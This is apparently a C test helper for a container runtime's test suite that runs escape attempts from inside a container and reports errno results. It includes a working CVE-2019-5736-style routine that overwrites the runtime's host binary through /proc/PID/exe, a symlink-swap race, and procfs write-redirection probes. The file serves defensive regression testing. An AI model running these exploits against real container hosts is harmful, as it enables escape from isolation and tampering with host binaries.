/* Attacks and probes run from inside a container by the tests in
 * crates/runtime-cli/tests/ (escape.rs, notify.rs). Built with `gcc -static`
 * at test time. Each subcommand prints one line per probe, "<probe> <errno>"
 * (0 = the call succeeded), and the Rust test decides what must have
 * failed. */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <linux/capability.h>
#include <sched.h>
#include <signal.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/personality.h>
#include <sys/prctl.h>
#include <sys/stat.h>
#include <sys/mount.h>
#include <sys/syscall.h>
#include <sys/statfs.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

static void report(const char *probe, long rc) {
    printf("%s %d\n", probe, rc < 0 ? errno : 0);
    fflush(stdout);
}

/* A fork-like raw clone: the child exits at once. */
static long raw_clone(unsigned long flags) {
    long rc = syscall(SYS_clone, flags | SIGCHLD, 0, 0, 0, 0);
    if (rc == 0) _exit(0);
    if (rc > 0) waitpid(rc, NULL, 0);
    return rc;
}

struct clone_args_min { uint64_t flags, pidfd, child_tid, parent_tid, exit_signal, stack, stack_size, tls; };

static long raw_clone3(void) {
    struct clone_args_min a = {0};
    a.exit_signal = SIGCHLD;
    long rc = syscall(SYS_clone3, &a, sizeof a);
    if (rc == 0) _exit(0);
    if (rc > 0) waitpid(rc, NULL, 0);
    return rc;
}

/* Runs one probe in a child, so that a probe that succeeds (a new user
 * namespace, a mount) leaves this process as it was; the errno comes back
 * as the exit status. */
static void in_child(const char *probe, long (*f)(void)) {
    pid_t pid = fork();
    if (pid == 0) {
        long rc = f();
        _exit(rc < 0 ? errno : 0);
    }
    int status = 0;
    waitpid(pid, &status, 0);
    printf("%s %d\n", probe, WIFEXITED(status) ? WEXITSTATUS(status) : 255);
    fflush(stdout);
}

static long do_unshare_user(void) { return unshare(CLONE_NEWUSER); }
static long do_mount(void) {
    mkdir("/tmp/probe-mnt", 0700);
    return syscall(SYS_mount, "none", "/tmp/probe-mnt", "tmpfs", 0, NULL);
}

/* Syscalls Docker's default profile blocks. */
static int sys_probes(void) {
    report("keyctl", syscall(SYS_keyctl, 0 /* GET_KEYRING_ID */, -3 /* session */, 0));
    report("add_key", syscall(SYS_add_key, "user", "berth-probe", "x", 1, -2 /* process */));
    report("request_key", syscall(SYS_request_key, "user", "berth-none", NULL, -2));
    in_child("unshare_user", do_unshare_user);
    report("clone_newuser", raw_clone(CLONE_NEWUSER));
    report("clone3", raw_clone3());
    report("personality_no_aslr", personality(ADDR_NO_RANDOMIZE));
    report("io_uring_setup", syscall(SYS_io_uring_setup, 1, calloc(1, 120)));
    report("bpf", syscall(SYS_bpf, 0 /* MAP_CREATE */, calloc(1, 128), 128));
    report("perf_event_open", syscall(SYS_perf_event_open, calloc(1, 128), 0, -1, -1, 0));
    report("kexec_load", syscall(SYS_kexec_load, 0, 0, NULL, 0));
    in_child("mount", do_mount);
    report("open_by_handle_at", syscall(SYS_open_by_handle_at, AT_FDCWD, calloc(1, 136), O_RDONLY));
    /* What a normal workload needs. */
    report("fork", raw_clone(0));
    report("getpid", getpid());
    return 0;
}

/* Capabilities: raise what the config did not grant. */
static int cap_probes(void) {
    struct __user_cap_header_struct h = {_LINUX_CAPABILITY_VERSION_3, 0};
    struct __user_cap_data_struct d[2];
    memset(d, 0, sizeof d);
    report("capget", syscall(SYS_capget, &h, d));
    printf("eff %08x%08x\n", d[1].effective, d[0].effective);
    /* Every capability into inheritable: only allowed within bounding. */
    d[0].inheritable = 0xffffffff;
    d[1].inheritable = 0x000001ff;
    report("capset_inheritable_all", syscall(SYS_capset, &h, d));
    report("ambient_raise_sys_admin", prctl(PR_CAP_AMBIENT, PR_CAP_AMBIENT_RAISE, CAP_SYS_ADMIN, 0, 0));
    report("bounding_has_sys_admin", prctl(PR_CAPBSET_READ, CAP_SYS_ADMIN, 0, 0, 0) == 1 ? 0 : (errno = EPERM, -1));
    return 0;
}

static int is_digits(const char *s) {
    for (; *s; s++) if (*s < '0' || *s > '9') return 0;
    return 1;
}

/* CVE-2019-5736 class: while the runtime joins the container for `exec`,
 * its process is briefly visible in the container's pid namespace before
 * it executes the container's program. Grab /proc/PID/exe of every such
 * process (anything not run from the container's own /bin), and once it
 * is gone overwrite the file it pointed at. Prints how many processes were
 * seen, how many refused the open, and the result of a successful grab. */
static int exe_attack(const char *marker, int seconds) {
    pid_t self = getpid();
    time_t end = time(NULL) + seconds;
    int denied = 0, grabbed = 0;
    while (time(NULL) < end && !grabbed) {
        DIR *d = opendir("/proc");
        struct dirent *e;
        while (d && (e = readdir(d))) {
            if (!is_digits(e->d_name)) continue;
            pid_t pid = atoi(e->d_name);
            if (pid == self || pid == 1) continue;
            char path[64], target[256] = {0};
            snprintf(path, sizeof path, "/proc/%d/exe", pid);
            int fd = open(path, O_RDONLY | O_CLOEXEC);
            if (fd < 0) {
                if (errno == EACCES || errno == EPERM) denied++;
                continue;
            }
            if (readlink(path, target, sizeof target - 1) < 0 || strncmp(target, "/bin/", 5) == 0) {
                close(fd);
                continue;
            }
            grabbed = 1;
            printf("exe_target %s\n", target);
            kill(pid, SIGKILL);
            char self_fd[64];
            snprintf(self_fd, sizeof self_fd, "/proc/self/fd/%d", fd);
            int w = -1;
            for (int i = 0; i < 400; i++) {
                w = open(self_fd, O_WRONLY | O_CLOEXEC);
                if (w >= 0 || errno != ETXTBSY) break;
                usleep(5000);
            }
            report("open_exe_for_write", w);
            if (w >= 0) {
                report("write_exe", write(w, marker, strlen(marker)));
                close(w);
            }
            break;
        }
        if (d) closedir(d);
    }
    printf("denied %d\ngrabbed %d\ndone 1\n", denied, grabbed);
    fflush(stdout);
    return 0;
}

static void on_signal(int sig) {
    (void)sig;
    static const char msg[] = "handler\n";
    (void)!write(1, msg, sizeof msg - 1);
}

/* Seccomp notify: with a SIGURG handler installed without SA_RESTART,
 * make one mkdir the filter sends to the listener and report how it ended
 * (the listener's answer, or EINTR if the signal interrupted the wait). */
static int notify_wait(void) {
    struct sigaction sa;
    memset(&sa, 0, sizeof sa);
    sa.sa_handler = on_signal;
    sigemptyset(&sa.sa_mask);
    sigaction(SIGURG, &sa, NULL);
    report("mkdir", syscall(SYS_mkdirat, AT_FDCWD, "/notified", 0755));
    return 0;
}

/* The attacker of a shared volume: swaps two names (a directory and a
 * symlink) with renameat2(RENAME_EXCHANGE) as fast as it can, for at most
 * SECONDS, so that whoever resolves A sees either. */
static int flip(const char *a, const char *b, int seconds) {
    time_t end = time(NULL) + seconds;
    long swaps = 0;
    while (time(NULL) < end) {
        for (int i = 0; i < 1000; i++)
            if (syscall(SYS_renameat2, AT_FDCWD, a, AT_FDCWD, b, 2 /* RENAME_EXCHANGE */) == 0)
                swaps++;
    }
    printf("swaps %ld\n", swaps);
    return 0;
}

#define PROC_MAGIC 0x9fa0

/* What a runtime resolving paths naively does: bind-mount SRC on DEST (a
 * path the attacker may swap for a symlink) and then write VALUE into the
 * procfs file FILE by path, like os.WriteFile. Tries up to TRIES times and
 * reports the attempt at which /proc stopped being procfs (the write then
 * went into the volume), or -1. */
static int mount_write(const char *src, const char *dest, const char *file, const char *value, int tries) {
    for (int i = 0; i < tries; i++) {
        if (mount(src, dest, NULL, MS_BIND, NULL) < 0) continue;
        int fd = open(file, O_WRONLY | O_CREAT | O_TRUNC | O_CLOEXEC, 0644);
        if (fd >= 0) {
            (void)!write(fd, value, strlen(value));
            close(fd);
        }
        struct statfs st;
        if (statfs("/proc", &st) == 0 && st.f_type != PROC_MAGIC) {
            printf("landed %d\n", i);
            return 0;
        }
    }
    printf("landed -1\n");
    return 0;
}

/* A path-based write of VALUE into FILE (O_CREAT|O_TRUNC, following
 * symlinks), as a runtime writing /proc/self/... without checks would. */
static int path_write(const char *file, const char *value) {
    int fd = open(file, O_WRONLY | O_CREAT | O_TRUNC | O_CLOEXEC, 0644);
    if (fd >= 0) {
        report("path_write", write(fd, value, strlen(value)));
        close(fd);
    } else {
        report("path_write", -1);
    }
    return 0;
}

int main(int argc, char **argv) {
    if (argc >= 2 && strcmp(argv[1], "sys") == 0) return sys_probes();
    if (argc >= 2 && strcmp(argv[1], "caps") == 0) return cap_probes();
    if (argc >= 4 && strcmp(argv[1], "exe") == 0) return exe_attack(argv[2], atoi(argv[3]));
    if (argc >= 2 && strcmp(argv[1], "notify-wait") == 0) return notify_wait();
    if (argc >= 5 && strcmp(argv[1], "flip") == 0) return flip(argv[2], argv[3], atoi(argv[4]));
    if (argc >= 7 && strcmp(argv[1], "mount-write") == 0)
        return mount_write(argv[2], argv[3], argv[4], argv[5], atoi(argv[6]));
    if (argc >= 4 && strcmp(argv[1], "path-write") == 0) return path_write(argv[2], argv[3]);
    fprintf(stderr, "usage: attack sys | caps | exe MARKER SECONDS | notify-wait | flip A B SECONDS"
                    " | mount-write SRC DEST FILE VALUE TRIES | path-write FILE VALUE\n");
    return 2;
}
